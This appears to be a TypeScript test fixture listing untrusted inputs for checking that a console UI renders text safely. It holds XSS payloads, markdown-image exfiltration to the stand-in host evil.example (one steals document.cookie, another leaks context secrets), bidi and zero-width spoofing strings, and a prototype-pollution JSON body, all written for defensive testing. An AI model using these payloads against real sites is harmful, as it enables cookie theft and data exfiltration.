/**
 * Untrusted-text corpus for R14. Every payload that could run sets `window.__xss`, opens a
 * dialog, or fetches a host other than the console's own; none of that may ever happen.
 * `EVIL` hosts are outside the console; the page.route guard counts any request to them.
 */
export const EVIL = 'https://evil.example';

export const XSS_PAYLOADS: string[] = [
  '<script>window.__xss=1</script>',
  '<img src=x onerror="window.__xss=1">',
  '<svg onload="window.__xss=1"></svg>',
  '<svg><script>window.__xss=1</script></svg>',
  '<iframe src="javascript:window.__xss=1"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<a href="javascript:window.__xss=1">click me</a>',
  '[click me](javascript:window.__xss=1)',
  '[click me](JaVaScRiPt:window.__xss=1)',
  '[data link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)',
  `![exfil](${EVIL}/pixel.png?d=SECRET_FROM_CONTEXT)`,
  `![exfil][ref]\n\n[ref]: ${EVIL}/ref.png?q=leak`,
  `<img src="${EVIL}/raw.png?d=1">`,
  '<details open ontoggle="window.__xss=1">x</details>',
  '<body onload="window.__xss=1">',
  '<input autofocus onfocus="window.__xss=1">',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=1">',
  '<!-- <img src=x onerror="window.__xss=1"> -->',
  '<!--><img src=x onerror="window.__xss=1">-->',
  '"><img src=x onerror=window.__xss=1>',
  "'-alert(1)-'",
  '{{constructor.constructor("window.__xss=1")()}}',
  '<object data="javascript:window.__xss=1"></object>',
  '<embed src="javascript:window.__xss=1">',
  '<form action="javascript:window.__xss=1"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
  `<link rel="stylesheet" href="${EVIL}/x.css">`,
  `<style>@import url("${EVIL}/import.css"); body{background:url("${EVIL}/bg.png")}</style>`,
  '<base href="https://evil.example/">',
  // bidi override and zero-width characters hiding what a link says
  'Invoice \u202Egpj.exe\u202C total',
  `[https://console.local/safe](${EVIL}/\u200Bphish)`,
  'zero\u200Bwidth\u200Djoiner\uFEFFbom <img src=x onerror=window.__xss=1>',
  // very long lines
  `${'A'.repeat(100_000)}<img src=x onerror=window.__xss=1>`,
  `${'<b>'.repeat(5_000)}deep`,
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<svg><a xlink:href="javascript:window.__xss=1"><text x="0" y="20">svg link</text></a></svg>',
  '<img src=x onerror="fetch(\'https://evil.example/steal?c=\'+document.cookie)">',
];

/** JSON bodies with `__proto__` keys (sent as raw text, so the key really is on the wire). */
export const PROTO_JSON =
  '{"__proto__": {"polluted": "yes", "isAdmin": true}, "constructor": {"prototype": {"polluted2": "yes"}}, "note": "<img src=x onerror=window.__xss=1>"}';
